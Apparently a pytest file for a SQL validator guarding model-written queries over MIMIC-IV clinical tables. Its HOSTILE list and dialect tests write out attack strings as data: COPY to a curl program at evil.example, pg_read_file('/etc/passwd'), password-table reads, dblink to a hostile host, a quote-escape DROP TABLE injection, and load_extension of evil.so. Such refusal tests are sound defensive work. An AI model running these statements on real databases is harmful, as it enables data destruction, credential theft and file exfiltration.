import pickle

import pytest

from core.sql_functions import ALLOWED_FUNCTIONS
from core.types import CatalogSchema, TableSchema
from core.validation import (
    DENIED_FUNCTIONS,
    ERROR_CODES,
    SqlValidationError,
    referenced_tables,
    validate_sql,
)

HOSP, ICU = "mimiciv_hosp", "mimiciv_icu"

TABLES = (
    TableSchema(
        HOSP, "patients", ("subject_id", "gender", "anchor_age", "anchor_year", "anchor_year_group", "dod")
    ),
    TableSchema(
        HOSP,
        "admissions",
        (
            "subject_id",
            "hadm_id",
            "admittime",
            "dischtime",
            "deathtime",
            "admission_type",
            "admission_location",
            "discharge_location",
            "insurance",
            "language",
            "marital_status",
            "race",
            "edregtime",
            "edouttime",
            "hospital_expire_flag",
        ),
    ),
    TableSchema(HOSP, "diagnoses_icd", ("subject_id", "hadm_id", "seq_num", "icd_code", "icd_version")),
    TableSchema(HOSP, "d_icd_diagnoses", ("icd_code", "icd_version", "long_title")),
    TableSchema(
        HOSP,
        "labevents",
        (
            "labevent_id",
            "subject_id",
            "hadm_id",
            "specimen_id",
            "itemid",
            "charttime",
            "value",
            "valuenum",
            "valueuom",
            "flag",
        ),
    ),
    TableSchema(HOSP, "d_labitems", ("itemid", "label", "fluid", "category")),
    # The same table name in both schemas: a bare `caregiver` can't be resolved.
    TableSchema(HOSP, "caregiver", ("caregiver_id",)),
    TableSchema(
        ICU,
        "icustays",
        ("subject_id", "hadm_id", "stay_id", "first_careunit", "last_careunit", "intime", "outtime", "los"),
    ),
    TableSchema(ICU, "d_items", ("itemid", "label", "abbreviation", "linksto", "category", "unitname")),
    TableSchema(ICU, "caregiver", ("caregiver_id",)),
)
CATALOG = CatalogSchema(tables=TABLES)
SQLITE = CatalogSchema(tables=tuple(TableSchema("", t.name, t.columns) for t in TABLES[:6]), dialect="sqlite")
DUCKDB = CatalogSchema(tables=TABLES, dialect="duckdb")


def rejected(sql: str, catalog: CatalogSchema = CATALOG) -> SqlValidationError:
    with pytest.raises(SqlValidationError) as info:
        validate_sql(sql, catalog)
    error = info.value
    assert error.code in ERROR_CODES
    assert error.message and "\n" not in error.message
    return error


VALID_QUERIES = [
    "SELECT COUNT(*) FROM mimiciv_hosp.patients",
    "SELECT p.subject_id, p.gender, a.hadm_id, a.admittime FROM mimiciv_hosp.patients p "
    "JOIN mimiciv_hosp.admissions a ON a.subject_id = p.subject_id WHERE p.anchor_age >= 65",
    # CTE whose columns are used by name, then joined with USING
    "WITH first_adm AS (SELECT subject_id, MIN(admittime) AS first_admit FROM mimiciv_hosp.admissions "
    "GROUP BY subject_id) SELECT f.subject_id, f.first_admit, p.gender FROM first_adm f "
    "JOIN mimiciv_hosp.patients p USING (subject_id)",
    # chained CTEs, one referencing the other unaliased
    "WITH icu AS (SELECT hadm_id, MAX(los) AS max_los FROM mimiciv_icu.icustays GROUP BY hadm_id), "
    "adm AS (SELECT a.hadm_id, a.insurance, icu.max_los FROM mimiciv_hosp.admissions a "
    "JOIN icu ON icu.hadm_id = a.hadm_id) SELECT insurance, AVG(max_los) FROM adm GROUP BY insurance",
    # CTE column alias list
    "WITH counts(unit, n) AS (SELECT first_careunit, COUNT(*) FROM mimiciv_icu.icustays "
    "GROUP BY first_careunit) SELECT unit, n FROM counts ORDER BY n DESC",
    "WITH RECURSIVE n(k) AS (SELECT 1 UNION ALL SELECT k + 1 FROM n WHERE k < 10) SELECT k FROM n",
    # CTE selecting a.* : its outputs are open
    "WITH ranked AS (SELECT a.*, ROW_NUMBER() OVER (PARTITION BY a.subject_id "
    "ORDER BY a.admittime DESC) AS rn FROM mimiciv_hosp.admissions a) "
    "SELECT subject_id, hadm_id FROM ranked WHERE rn = 1",
    "SELECT subject_id, hadm_id, ROW_NUMBER() OVER (PARTITION BY subject_id ORDER BY admittime) AS rn "
    "FROM mimiciv_hosp.admissions",
    "SELECT hadm_id, LAG(admittime) OVER w AS prev_admit FROM mimiciv_hosp.admissions "
    "WINDOW w AS (PARTITION BY subject_id ORDER BY admittime)",
    "SELECT EXTRACT(YEAR FROM admittime) AS yr, COUNT(*) FROM mimiciv_hosp.admissions "
    "GROUP BY yr ORDER BY yr",
    "SELECT hadm_id FROM mimiciv_hosp.admissions WHERE dischtime - admittime > INTERVAL '7 days'",
    "SELECT hadm_id, EXTRACT(EPOCH FROM (dischtime - admittime)) / 3600.0 AS los_hours "
    "FROM mimiciv_hosp.admissions WHERE admittime >= DATE '2150-01-01' "
    "AND admittime < DATE '2150-01-01' + INTERVAL '1 year'",
    "SELECT COUNT(*) FROM mimiciv_hosp.admissions WHERE admittime < CURRENT_DATE - INTERVAL '30 days'",
    "SELECT subject_id, date_part('year', age(dod, make_date(anchor_year, 1, 1))) "
    "FROM mimiciv_hosp.patients WHERE dod IS NOT NULL",
    "SELECT CASE WHEN anchor_age < 40 THEN 'young' WHEN anchor_age < 65 THEN 'middle' ELSE 'old' END "
    "AS age_band, COUNT(*) AS n FROM mimiciv_hosp.patients GROUP BY 1 ORDER BY n DESC",
    # subquery in FROM
    "SELECT t.admission_type, AVG(t.los_days) FROM (SELECT admission_type, "
    "EXTRACT(DAY FROM dischtime - admittime) AS los_days FROM mimiciv_hosp.admissions) AS t "
    "GROUP BY t.admission_type",
    # subqueries in WHERE, correlated or not
    "SELECT subject_id FROM mimiciv_hosp.patients WHERE subject_id IN "
    "(SELECT subject_id FROM mimiciv_hosp.diagnoses_icd WHERE icd_code LIKE 'I50%')",
    "SELECT p.subject_id FROM mimiciv_hosp.patients p WHERE EXISTS "
    "(SELECT 1 FROM mimiciv_icu.icustays i WHERE i.subject_id = p.subject_id AND i.los > 7)",
    "SELECT a.hadm_id FROM mimiciv_hosp.admissions a WHERE NOT EXISTS "
    "(SELECT 1 FROM mimiciv_icu.icustays i WHERE i.hadm_id = a.hadm_id)",
    # an unqualified outer column inside a subquery (`gender` is only in the outer table)
    "SELECT p.subject_id FROM mimiciv_hosp.patients p WHERE EXISTS "
    "(SELECT 1 FROM mimiciv_hosp.admissions a WHERE a.subject_id = p.subject_id AND gender = 'F')",
    "SELECT p.subject_id FROM mimiciv_hosp.patients p WHERE p.anchor_age > "
    "(SELECT AVG(anchor_age) FROM mimiciv_hosp.patients)",
    "SELECT p.subject_id, (SELECT COUNT(*) FROM mimiciv_hosp.admissions a WHERE a.subject_id = p.subject_id) "
    "AS n_adm FROM mimiciv_hosp.patients p",
    "SELECT p.subject_id, last_adm.admittime FROM mimiciv_hosp.patients p CROSS JOIN LATERAL "
    "(SELECT a.admittime FROM mimiciv_hosp.admissions a WHERE a.subject_id = p.subject_id "
    "ORDER BY a.admittime DESC LIMIT 1) AS last_adm",
    "SELECT subject_id FROM mimiciv_hosp.admissions WHERE admission_type = 'URGENT' UNION "
    "SELECT subject_id FROM mimiciv_icu.icustays WHERE first_careunit = 'MICU' ORDER BY subject_id",
    "SELECT subject_id FROM mimiciv_hosp.patients EXCEPT SELECT subject_id FROM mimiciv_icu.icustays",
    "(SELECT hadm_id FROM mimiciv_hosp.admissions) INTERSECT (SELECT hadm_id FROM mimiciv_icu.icustays)",
    "SELECT COUNT(DISTINCT subject_id) FROM mimiciv_hosp.labevents WHERE itemid = 50912",
    "SELECT LOWER(d.label), UPPER(d.fluid), LENGTH(d.category), SUBSTRING(d.label FROM 1 FOR 5), "
    "TRIM(d.label), POSITION('a' IN d.label), d.label || ' (' || d.fluid || ')' "
    "FROM mimiciv_hosp.d_labitems d "
    "WHERE d.label ILIKE '%creatinine%'",
    "SELECT admittime::date AS day, COUNT(*) FROM mimiciv_hosp.admissions GROUP BY admittime::date",
    "SELECT ROUND(AVG(valuenum)::numeric, 2), COALESCE(valueuom, 'n/a') AS unit "
    "FROM mimiciv_hosp.labevents GROUP BY unit",
    "SELECT m.month, COUNT(a.hadm_id) FROM generate_series(DATE '2150-01-01', DATE '2150-12-01', "
    "INTERVAL '1 month') AS m(month) LEFT JOIN mimiciv_hosp.admissions a "
    "ON date_trunc('month', a.admittime) = m.month GROUP BY m.month ORDER BY m.month",
    "SELECT g FROM generate_series(1, 10) AS g",
    'SELECT "p"."subject_id", "p"."Gender" FROM "mimiciv_hosp"."patients" AS "p"',
    "select A.HADM_ID, a.Insurance from MIMICIV_HOSP.ADMISSIONS a where A.Race like 'WHITE%'",
    "SELECT Subject_ID AS Sid FROM mimiciv_hosp.Patients ORDER BY sid",
    # unqualified tables that exist in one schema only
    "SELECT itemid, label FROM d_items WHERE category = 'Labs'",
    "SELECT hadm_id FROM admissions",
    "SELECT caregiver_id FROM mimiciv_icu.caregiver",
    "SELECT d.label, AVG(l.valuenum) AS mean_value, l.valueuom FROM mimiciv_hosp.labevents l "
    "JOIN mimiciv_hosp.d_labitems d ON d.itemid = l.itemid WHERE l.flag = 'abnormal' "
    "GROUP BY d.label, l.valueuom HAVING COUNT(*) > 100 ORDER BY mean_value DESC LIMIT 20",
    "SELECT dd.long_title, COUNT(*) AS n FROM mimiciv_hosp.diagnoses_icd di "
    "JOIN mimiciv_hosp.d_icd_diagnoses dd ON dd.icd_code = di.icd_code "
    "AND dd.icd_version = di.icd_version WHERE di.seq_num = 1 "
    "GROUP BY dd.long_title ORDER BY n DESC LIMIT 10",
    "SELECT first_careunit, percentile_cont(0.5) WITHIN GROUP (ORDER BY los) AS median_los "
    "FROM mimiciv_icu.icustays GROUP BY first_careunit",
    "SELECT COUNT(*) FILTER (WHERE hospital_expire_flag = 1) AS deaths, COUNT(*) AS total "
    "FROM mimiciv_hosp.admissions",
    "SELECT DISTINCT ON (subject_id) subject_id, hadm_id, admittime FROM mimiciv_hosp.admissions "
    "ORDER BY subject_id, admittime",
    "SELECT a.hadm_id, p.anchor_age + EXTRACT(YEAR FROM a.admittime) - p.anchor_year AS age_at_admission "
    "FROM mimiciv_hosp.admissions a JOIN mimiciv_hosp.patients p ON p.subject_id = a.subject_id",
    "SELECT i.stay_id, COUNT(l.labevent_id) FROM mimiciv_icu.icustays i LEFT JOIN mimiciv_hosp.labevents l "
    "ON l.hadm_id = i.hadm_id AND l.charttime BETWEEN i.intime AND i.intime + INTERVAL '24 hours' "
    "GROUP BY i.stay_id",
    "SELECT DISTINCT d.category FROM mimiciv_icu.d_items d WHERE d.linksto = 'chartevents' "
    "AND d.unitname IS NOT NULL",
    "SELECT hadm_id FROM mimiciv_hosp.admissions WHERE (deathtime IS NOT NULL) = true",
    "SELECT to_char(admittime, 'YYYY-MM') AS month, COUNT(*) FROM mimiciv_hosp.admissions "
    "GROUP BY month ORDER BY month",
    # ORDER BY an output column whose name two joined tables share
    "SELECT a.subject_id, p.gender FROM mimiciv_hosp.admissions a JOIN mimiciv_hosp.patients p "
    "ON p.subject_id = a.subject_id ORDER BY subject_id",
    # USING merges the shared column, so it may be named bare
    "SELECT subject_id, gender, hadm_id FROM mimiciv_hosp.patients "
    "JOIN mimiciv_hosp.admissions USING (subject_id)",
    "SELECT insurance, COUNT(*) AS n FROM mimiciv_hosp.admissions GROUP BY insurance HAVING COUNT(*) > 10",
    "SELECT u.code FROM unnest(ARRAY['I50', 'I21']) AS u(code)",
    "SELECT v.label, COUNT(*) FROM (VALUES ('F'), ('M')) AS v(label) JOIN mimiciv_hosp.patients p "
    "ON p.gender = v.label GROUP BY v.label",
    "SELECT hadm_id FROM mimiciv_hosp.admissions WHERE race = ANY(ARRAY['WHITE', 'BLACK']) "
    "ORDER BY admittime DESC NULLS LAST LIMIT 10 OFFSET 5",
    "SELECT current_user, now(), 'literal text', 42",
    "SELECT gender FROM mimiciv_hosp.patients;\n",
    "(SELECT hadm_id FROM mimiciv_hosp.admissions) ORDER BY hadm_id LIMIT 5",
    # a subquery in FROM inside a correlated subquery may still reach the outermost query
    "SELECT p.subject_id FROM mimiciv_hosp.patients p WHERE EXISTS (SELECT 1 FROM (SELECT a.hadm_id "
    "FROM mimiciv_hosp.admissions a WHERE a.subject_id = p.subject_id) AS t)",
    "SELECT p.subject_id, u.word FROM mimiciv_hosp.patients p "
    "CROSS JOIN LATERAL unnest(string_to_array(p.gender, ' ')) AS u(word)",
    "SELECT gender FROM mimiciv_hosp.patients; -- the model's closing remark",
]


@pytest.mark.parametrize("sql", VALID_QUERIES)
def test_realistic_queries_pass(sql):
    result = validate_sql(sql, CATALOG)
    # What runs is generated from the validated tree: no comments, and it reads as the same query.
    assert "--" not in result.sql and "/*" not in result.sql
    again = validate_sql(result.sql, CATALOG)
    assert again.sql == result.sql and again.tables == result.tables and again.columns == result.columns
    assert set(result.tables) <= {t.qualified for t in TABLES}


def test_the_statement_that_runs_is_generated_from_the_tree_not_the_text_written():
    sql = "  select  A.HADM_ID -- the id\nfrom MIMICIV_HOSP.ADMISSIONS a ;; \n"
    validated = validate_sql(sql, CATALOG)
    assert validated.sql == "SELECT a.hadm_id FROM mimiciv_hosp.admissions AS a"
    assert (
        validated.tree is not None
        and validated.tree.sql("postgres") == "SELECT a.hadm_id FROM mimiciv_hosp.admissions AS a"
    )


def test_tables_and_columns_read_are_reported_sorted_and_qualified():
    result = validate_sql(
        "WITH recent AS (SELECT a.hadm_id, a.subject_id FROM mimiciv_hosp.admissions a "
        "WHERE a.admittime > DATE '2180-01-01') "
        "SELECT r.hadm_id, P.Gender FROM recent r JOIN Patients p ON p.subject_id = r.subject_id "
        "JOIN generate_series(1, 3) AS g ON true",
        CATALOG,
    )
    assert result.tables == ("mimiciv_hosp.admissions", "mimiciv_hosp.patients")
    assert result.columns == (
        "mimiciv_hosp.admissions.admittime",
        "mimiciv_hosp.admissions.hadm_id",
        "mimiciv_hosp.admissions.subject_id",
        "mimiciv_hosp.patients.gender",
        "mimiciv_hosp.patients.subject_id",
    )


def test_a_cte_may_shadow_a_catalog_table_name():
    result = validate_sql(
        "WITH admissions AS (SELECT hadm_id AS id FROM mimiciv_hosp.admissions) SELECT id FROM admissions",
        CATALOG,
    )
    assert result.tables == ("mimiciv_hosp.admissions",)


HOSTILE = [
    ("DROP TABLE mimiciv_hosp.patients", "not_a_query"),
    ("UPDATE mimiciv_hosp.patients SET gender = 'F'", "not_a_query"),
    ("DELETE FROM mimiciv_hosp.patients", "not_a_query"),
    ("INSERT INTO mimiciv_hosp.patients (subject_id) VALUES (1)", "not_a_query"),
    (
        "MERGE INTO mimiciv_hosp.patients t USING mimiciv_hosp.admissions s ON t.subject_id = s.subject_id "
        "WHEN MATCHED THEN DELETE",
        "not_a_query",
    ),
    ("TRUNCATE mimiciv_hosp.patients", "not_a_query"),
    ("ALTER TABLE mimiciv_hosp.patients ADD COLUMN x int", "not_a_query"),
    ("CREATE TABLE x (a int)", "not_a_query"),
    ("CREATE TABLE x AS SELECT * FROM mimiciv_hosp.patients", "not_a_query"),
    ("CREATE VIEW v AS SELECT * FROM mimiciv_hosp.patients", "not_a_query"),
    ("GRANT ALL ON mimiciv_hosp.patients TO public", "not_a_query"),
    ("REVOKE ALL ON mimiciv_hosp.patients FROM public", "not_a_query"),
    ("COPY mimiciv_hosp.patients TO PROGRAM 'curl http://evil.example'", "not_a_query"),
    ("COPY mimiciv_hosp.patients FROM '/tmp/patients.csv'", "not_a_query"),
    ("COPY (SELECT * FROM mimiciv_hosp.patients) TO '/tmp/out.csv'", "not_a_query"),
    ("SET ROLE postgres", "not_a_query"),
    ("SET statement_timeout = 0", "not_a_query"),
    ("SET LOCAL search_path = public", "not_a_query"),
    ("RESET ALL", "not_a_query"),
    ("SHOW ALL", "not_a_query"),
    ("VACUUM", "not_a_query"),
    ("VACUUM FULL mimiciv_hosp.patients", "not_a_query"),
    ("ANALYZE mimiciv_hosp.patients", "not_a_query"),
    ("LOCK TABLE mimiciv_hosp.patients", "not_a_query"),
    ("CALL refresh_everything()", "not_a_query"),
    ("DO $$ BEGIN DELETE FROM mimiciv_hosp.patients; END $$", "not_a_query"),
    ("EXPLAIN ANALYZE DELETE FROM mimiciv_hosp.patients", "not_a_query"),
    ("EXPLAIN SELECT * FROM mimiciv_hosp.patients", "not_a_query"),
    ("PREPARE q AS DELETE FROM mimiciv_hosp.patients", "not_a_query"),
    ("EXECUTE q", "not_a_query"),
    ("DEALLOCATE ALL", "not_a_query"),
    ("LISTEN admissions_channel", "not_a_query"),
    ("NOTIFY admissions_channel", "not_a_query"),
    ("BEGIN", "not_a_query"),
    ("COMMIT", "not_a_query"),
    ("REFRESH MATERIALIZED VIEW v", "not_a_query"),
    ("COMMENT ON TABLE mimiciv_hosp.patients IS 'x'", "not_a_query"),
    ("VALUES (1), (2)", "not_a_query"),
    ("WITH d AS (DELETE FROM mimiciv_hosp.patients RETURNING *) SELECT * FROM d", "not_a_query"),
    (
        "WITH x AS (INSERT INTO mimiciv_hosp.patients (subject_id) VALUES (1) RETURNING subject_id) "
        "SELECT * FROM x",
        "not_a_query",
    ),
    (
        "WITH u AS (UPDATE mimiciv_hosp.patients SET dod = NULL RETURNING subject_id) SELECT COUNT(*) FROM u",
        "not_a_query",
    ),
    ("SELECT 1; DROP TABLE x", "multiple_statements"),
    ("SELECT 1;; SELECT 2", "multiple_statements"),
    ("SELECT gender FROM mimiciv_hosp.patients; SELECT pg_sleep(10)", "multiple_statements"),
    # With standard strings a backslash does not escape the quote: PostgreSQL sees two statements.
    ("SELECT 'a\\'; DROP TABLE x; --'", "multiple_statements"),
    ("SELECT * INTO newtable FROM mimiciv_hosp.patients", "select_into"),
    ("SELECT * INTO TEMP t FROM mimiciv_hosp.patients", "select_into"),
    ("SELECT * FROM mimiciv_hosp.patients FOR UPDATE", "locking_clause"),
    ("SELECT * FROM mimiciv_hosp.patients FOR SHARE", "locking_clause"),
    ("SELECT * FROM mimiciv_hosp.patients FOR NO KEY UPDATE SKIP LOCKED", "locking_clause"),
    ("SELECT * FROM (SELECT * FROM mimiciv_hosp.patients FOR UPDATE) t", "locking_clause"),
    ("SELECT pg_read_file('/etc/passwd')", "denied_function"),
    ("SELECT pg_read_binary_file('/etc/passwd')", "denied_function"),
    ("SELECT pg_catalog.pg_read_file('/etc/passwd')", "denied_function"),
    ("SELECT \"PG_READ_FILE\"('/etc/passwd')", "denied_function"),
    ("SELECT * FROM pg_ls_dir('/') AS f", "denied_function"),
    ("SELECT pg_stat_file('/etc/passwd')", "denied_function"),
    ("SELECT lo_import('/etc/passwd')", "denied_function"),
    ("SELECT lo_export(1234, '/tmp/x')", "denied_function"),
    ("SELECT pg_sleep(10)", "denied_function"),
    ("SELECT gender FROM mimiciv_hosp.patients WHERE pg_sleep(10) IS NOT NULL", "denied_function"),
    ("SELECT PG_SLEEP_FOR('5 minutes')", "denied_function"),
    ("SELECT pg_sleep_until(now() + interval '1 hour')", "denied_function"),
    ("SELECT dblink('host=evil', 'SELECT 1')", "denied_function"),
    ("SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", "denied_function"),
    ("SELECT dblink_exec('host=evil', 'DROP TABLE x')", "denied_function"),
    ("SELECT set_config('statement_timeout', '0', false)", "denied_function"),
    ("SELECT current_setting('data_directory')", "denied_function"),
    ("SELECT pg_terminate_backend(42)", "denied_function"),
    ("SELECT pg_cancel_backend(42)", "denied_function"),
    ("SELECT pg_reload_conf()", "denied_function"),
    ("SELECT pg_rotate_logfile()", "denied_function"),
    ("SELECT pg_advisory_lock(1)", "denied_function"),
    ("SELECT pg_try_advisory_xact_lock(1)", "denied_function"),
    ("SELECT nextval('s')", "denied_function"),
    ("SELECT setval('s', 1)", "denied_function"),
    ("SELECT pg_notify('channel', 'x')", "denied_function"),
    ("SELECT query_to_xml('delete from x', true, true, '')", "denied_function"),
    ("SELECT table_to_xml('mimiciv_hosp.patients', true, true, '')", "denied_function"),
    ("SELECT database_to_xml(true, true, '')", "denied_function"),
    (
        "SELECT p.subject_id FROM mimiciv_hosp.patients p WHERE EXISTS "
        "(SELECT 1 FROM mimiciv_hosp.admissions a WHERE a.subject_id = p.subject_id AND pg_sleep(1) IS NULL)",
        "denied_function",
    ),
    ("SELECT * FROM pg_catalog.pg_user", "denied_relation"),
    ("SELECT * FROM pg_shadow", "denied_relation"),
    ("SELECT rolpassword FROM pg_authid", "denied_relation"),
    ("SELECT * FROM pg_settings", "denied_relation"),
    ("SELECT query FROM pg_stat_activity", "denied_relation"),
    ("SELECT * FROM information_schema.tables", "denied_relation"),
    ("SELECT * FROM INFORMATION_SCHEMA.COLUMNS", "denied_relation"),
    ("SELECT * FROM pg_toast.pg_toast_1234", "denied_relation"),
    (
        "SELECT p.subject_id FROM mimiciv_hosp.patients p WHERE EXISTS (SELECT 1 FROM pg_catalog.pg_class)",
        "denied_relation",
    ),
    # A derived table's alias must not make the real catalog table next to it look harmless.
    ("SELECT * FROM (SELECT 1 AS x) AS pg_shadow, pg_shadow", "denied_relation"),
    # A CTE is visible only inside its own query, not to a sibling subquery.
    ("SELECT * FROM (WITH pg_user AS (SELECT 1 AS x) SELECT * FROM pg_user) t, pg_user", "denied_relation"),
]


@pytest.mark.parametrize(("sql", "code"), HOSTILE)
def test_hostile_statements_are_refused_with_the_right_code(sql, code):
    assert rejected(sql).code == code


@pytest.mark.parametrize(
    ("sql", "message"),
    [
        (
            "SELECT l.value_num FROM mimiciv_hosp.labevents l",
            "column `labevents.value_num` does not exist; did you mean `valuenum`?",
        ),
        (
            "SELECT value_num FROM mimiciv_hosp.labevents",
            "column `value_num` does not exist in `mimiciv_hosp.labevents`; did you mean `valuenum`?",
        ),
        (
            "SELECT * FROM mimiciv_hosp.admission",
            "table `mimiciv_hosp.admission` does not exist; did you mean `mimiciv_hosp.admissions`?",
        ),
        (
            "SELECT * FROM admision",
            "table `admision` does not exist; did you mean `mimiciv_hosp.admissions`?",
        ),
        (
            "SELECT * FROM mimiciv_icu.admissions",
            "table `mimiciv_icu.admissions` does not exist; did you mean `mimiciv_hosp.admissions`?",
        ),
        (
            "WITH c AS (SELECT subject_id FROM mimiciv_hosp.patients) SELECT c.gender FROM c",
            "column `c.gender` does not exist; `c` has columns: subject_id",
        ),
        (
            "SELECT t.hadm FROM (SELECT hadm_id FROM mimiciv_hosp.admissions) AS t",
            "column `t.hadm` does not exist; did you mean `hadm_id`?",
        ),
        (
            "SELECT admissions.hadm_id FROM mimiciv_hosp.admissions a",
            "`admissions.hadm_id` refers to `admissions`, but that table is aliased as `a` in this query; "
            "write `a.hadm_id`",
        ),
        (
            "SELECT subject_id FROM mimiciv_hosp.patients p JOIN mimiciv_hosp.admissions a "
            "ON a.subject_id = p.subject_id",
            "column `subject_id` is ambiguous: it exists in `mimiciv_hosp.patients` (`p`) and "
            "`mimiciv_hosp.admissions` (`a`); qualify it with a table alias",
        ),
        (
            "SELECT COUNT(*) FROM mimiciv_hosp.admissions JOIN mimiciv_hosp.admissions b "
            "ON admissions.subject_id = b.subject_id WHERE hadm_id > 1",
            "column `hadm_id` is ambiguous: it exists in `mimiciv_hosp.admissions` and "
            "`mimiciv_hosp.admissions` (`b`); qualify it with a table alias",
        ),
        (
            "SELECT * FROM mimiciv_hosp.patients p, (SELECT a.hadm_id FROM mimiciv_hosp.admissions a "
            "WHERE a.subject_id = p.subject_id) AS t",
            "`p.subject_id` refers to `p`, which a CTE or a subquery in FROM cannot see; "
            "join `p` inside it, or make the subquery LATERAL",
        ),
        (
            "SELECT * FROM caregiver",
            "table `caregiver` is ambiguous: it exists as `mimiciv_hosp.caregiver` and "
            "`mimiciv_icu.caregiver`; qualify it with its schema",
        ),
    ],
)
def test_messages_tell_the_model_how_to_fix_the_query(sql, message):
    assert rejected(sql).message == message


@pytest.mark.parametrize(
    ("sql", "code"),
    [
        ("SELECT * FROM mimiciv_hosp.admission", "unknown_table"),
        ("SELECT * FROM nonsense_table", "unknown_table"),
        ("SELECT * FROM other_db.mimiciv_hosp.patients", "unknown_table"),
        ("SELECT * FROM caregiver", "ambiguous_table"),
        ("SELECT nonsense FROM mimiciv_hosp.patients", "unknown_column"),
        ("SELECT p.hadm_id FROM mimiciv_hosp.patients p", "unknown_column"),
        ("SELECT x.hadm_id FROM mimiciv_hosp.admissions a", "unknown_alias"),
        ("SELECT foo", "unknown_column"),
        # not a column of the subquery even though the underlying table has it
        ("SELECT t.gender FROM (SELECT subject_id FROM mimiciv_hosp.patients) t", "unknown_column"),
        (
            "SELECT hadm_id AS h FROM mimiciv_hosp.admissions UNION SELECT hadm_id FROM mimiciv_icu.icustays "
            "ORDER BY hadm_id",
            "unknown_column",
        ),
        # a correlated subquery still checks the columns of the outer table
        (
            "SELECT p.subject_id FROM mimiciv_hosp.patients p WHERE EXISTS "
            "(SELECT 1 FROM mimiciv_hosp.admissions a WHERE a.subject_id = p.hadm_id)",
            "unknown_column",
        ),
        (
            "SELECT a.subject_id FROM mimiciv_hosp.admissions a JOIN mimiciv_hosp.diagnoses_icd d "
            "USING (subject_id) WHERE hadm_id = 1",
            "ambiguous_column",
        ),
        (
            "WITH c AS (SELECT p.subject_id FROM mimiciv_hosp.admissions a) "
            "SELECT * FROM c, mimiciv_hosp.patients p",
            "unknown_alias",
        ),
        ("(SELECT hadm_id FROM mimiciv_hosp.admissions) ORDER BY admittime", "unknown_column"),
        ("SELECT FROM WHERE (", "parse_error"),
        ("SELECT (1", "parse_error"),
        ("NOTIFY channel, 'payload'", "parse_error"),
        ("", "empty"),
        ("  ;\n ;; ", "empty"),
        ("-- nothing but a comment", "empty"),
    ],
)
def test_bad_queries_are_refused_with_the_right_code(sql, code):
    assert rejected(sql).code == code


def test_a_select_alias_in_where_is_explained_for_postgres():
    error = rejected("SELECT anchor_age * 2 AS double_age FROM mimiciv_hosp.patients WHERE double_age > 100")
    assert error.code == "unknown_column"
    assert "output alias" in error.message


def test_a_column_listing_is_given_when_nothing_is_close():
    error = rejected("SELECT p.zzz FROM mimiciv_hosp.patients p")
    assert error.message == (
        "column `patients.zzz` does not exist; `mimiciv_hosp.patients` has columns: "
        "anchor_age, anchor_year, anchor_year_group, dod, gender, subject_id"
    )


def test_parse_errors_are_condensed_to_one_line():
    error = rejected("SELECT *\nFROM\nWHERE x = 1")
    assert error.code == "parse_error"
    assert error.message.startswith("the SQL could not be parsed as postgres:")
    assert "\x1b" not in error.message
    assert "line 3" in error.message


def test_length_limit():
    sql = "SELECT subject_id FROM mimiciv_hosp.patients WHERE gender = '" + "x" * 200 + "'"
    with pytest.raises(SqlValidationError) as info:
        validate_sql(sql, CATALOG, max_length=100)
    assert info.value.code == "too_long"
    assert "'" + "x" * 200 + "'" in validate_sql(sql, CATALOG, max_length=len(sql)).sql


def test_sqlite_dialect():
    assert validate_sql("SELECT subject_id, gender FROM patients WHERE anchor_age > 60", SQLITE).tables == (
        "patients",
    )
    assert validate_sql("SELECT a.hadm_id FROM admissions a", SQLITE).columns == ("admissions.hadm_id",)
    assert rejected("SELECT * FROM sqlite_master", SQLITE).code == "denied_relation"
    assert rejected("SELECT name FROM sqlite_schema", SQLITE).code == "denied_relation"
    assert rejected("SELECT * FROM sqlite_temp_master", SQLITE).code == "denied_relation"
    assert rejected("SELECT load_extension('/tmp/evil.so')", SQLITE).code == "denied_function"
    assert rejected("SELECT writefile('/tmp/x', 'y')", SQLITE).code == "denied_function"
    assert rejected("ATTACH DATABASE '/tmp/x.db' AS x", SQLITE).code == "not_a_query"
    assert rejected("PRAGMA table_info(patients)", SQLITE).code == "not_a_query"
    # Without a schema in the catalog a schema-qualified name is unknown.
    assert rejected("SELECT * FROM mimiciv_hosp.patients", SQLITE).code == "unknown_table"
    # SQLite accepts output aliases in WHERE.
    validate_sql("SELECT anchor_age * 2 AS a2 FROM patients WHERE a2 > 100", SQLITE)


def test_duckdb_dialect():
    validate_sql("SELECT subject_id FROM mimiciv_hosp.patients LIMIT 5", DUCKDB)
    assert rejected("SELECT * FROM read_csv('/etc/passwd')", DUCKDB).code == "denied_function"
    assert rejected("SELECT * FROM read_csv_auto('/etc/passwd')", DUCKDB).code == "denied_function"
    assert rejected("SELECT * FROM read_parquet('s3://bucket/x.parquet')", DUCKDB).code == "denied_function"
    assert rejected("SELECT * FROM read_json_auto('x.json')", DUCKDB).code == "denied_function"
    assert rejected("SELECT * FROM glob('/home/*')", DUCKDB).code == "denied_function"
    assert rejected("SELECT * FROM query('DROP TABLE x')", DUCKDB).code == "denied_function"
    assert rejected("SELECT * FROM 'patients.csv'", DUCKDB).code == "unknown_table"
    assert rejected("COPY (SELECT 1) TO 'x.csv'", DUCKDB).code == "not_a_query"
    assert rejected("INSTALL httpfs", DUCKDB).code == "not_a_query"
    assert rejected("LOAD httpfs", DUCKDB).code == "not_a_query"


def test_the_error_carries_code_and_message_and_survives_pickling():
    error = rejected("SELECT pg_sleep(1)")
    assert isinstance(error, ValueError)
    assert str(error) == error.message
    assert "pg_sleep" in error.message
    copy = pickle.loads(pickle.dumps(error))
    assert (copy.code, copy.message) == (error.code, error.message)


def test_the_denylist_is_lower_case_so_lookups_match():
    assert all(name == name.lower() for name in DENIED_FUNCTIONS)


@pytest.mark.parametrize("dialect", sorted(ALLOWED_FUNCTIONS))
def test_no_allowed_function_is_a_known_dangerous_one(dialect):
    exact = {n for n in DENIED_FUNCTIONS if not n.endswith("*")}
    prefixes = tuple(n[:-1] for n in DENIED_FUNCTIONS if n.endswith("*"))
    allowed = ALLOWED_FUNCTIONS[dialect]
    assert all(name == name.lower() and name.isidentifier() for name in allowed)
    assert not {n for n in allowed if n in exact or n.startswith(prefixes)}


def test_functions_off_the_allow_list_are_refused_by_name():
    for sql in ("SELECT txid_current()", "SELECT pg_current_xact_id()", "SELECT my_udf(1)"):
        error = rejected(sql)
        assert error.code == "denied_function"
        assert sql.split("SELECT ")[1].split("(")[0] in error.message


def test_referenced_tables_names_real_tables_without_ctes_or_functions():
    sql = (
        "WITH c AS (SELECT * FROM mimiciv_hosp.admissions) "
        "SELECT * FROM c JOIN Patients p USING (subject_id) "
        "JOIN generate_series(1, 3) AS g ON true "
